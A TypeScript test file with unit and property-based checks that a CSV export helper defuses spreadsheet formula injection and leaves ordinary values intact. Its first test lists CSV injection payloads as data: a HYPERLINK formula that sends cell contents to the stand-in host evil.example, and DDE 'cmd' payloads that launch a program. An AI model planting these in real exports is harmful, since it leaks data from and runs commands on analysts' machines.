import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv";

// CSV injection, as a partner would plant it in a value that reaches an analyst's spreadsheet.

/** What a spreadsheet reads from one cell: unquoted, quotes undoubled. */
const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe("CSV cells", () => {
  it("neutralises every formula a partner may plant, quoted or not", () => {
    for (const planted of ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", '=A1&"x"']) {
      const cell = read(csvCell(planted));
      expect(cell.startsWith("'")).toBe(true);
      expect(cell.slice(1)).toBe(planted);
    }
  });

  it("leaves numbers, ordinary text and raw downloads as they are", () => {
    for (const kept of ["-12.5", "+3", "-1e6", ".5", "42", "east", "", "a=b", "O'Brien"]) expect(read(csvCell(kept))).toBe(kept);
    expect(csvCell("=1+1", { raw: true })).toBe("=1+1");
    expect(csvCell(null)).toBe("");
    expect(csvCell(new Date("2026-12-01T00:00:00Z"))).toBe("2026-12-01T00:00:00.000Z");
    expect(csvLine(["a,b", 'say "hi"', "=x"])).toBe('"a,b","say ""hi""",\'=x\n');
  });

  it("never lets a cell start a formula, whatever the value", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "1", "a", ",", '"', "\n", " ") }), (value) => {
        const cell = read(csvCell(value));
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(plainNumber);
        expect(cell.replace(/^'/, "")).toBe(value);
      }),
    );
  });
});
